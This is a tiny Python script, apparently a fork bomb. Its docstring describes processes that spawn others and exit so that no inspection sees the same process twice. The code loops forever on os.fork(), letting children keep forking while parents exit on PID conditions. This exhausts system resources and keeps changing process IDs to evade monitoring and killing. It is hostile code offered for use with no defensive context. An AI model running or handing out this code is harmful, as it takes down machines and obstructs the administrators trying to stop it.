"""Short-lived processes that start others and exit, so that no look finds the same twice."""

import os

while True:
    try:
        if os.fork():
            os._exit(0) if os.getppid() not in (0, 1) and os.getpid() % 2 else None
    except OSError:
        pass
